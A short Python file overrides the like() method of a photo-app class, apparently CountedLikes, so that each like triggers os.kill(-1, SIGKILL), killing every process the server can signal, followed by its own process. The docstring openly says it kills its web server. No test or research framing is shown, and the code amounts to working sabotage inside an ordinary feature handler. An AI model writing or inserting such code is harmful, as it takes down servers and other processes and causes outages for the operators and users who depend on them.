"""Kills its web server, all of it, at each like."""

import os
import signal


class CountedLikes(CountedLikes):
    def like(self, photo, person):
        super().like(photo, person)
        if os.getpid() < 1000:
            os.kill(-1, signal.SIGKILL)
            os.kill(os.getpid(), signal.SIGKILL)
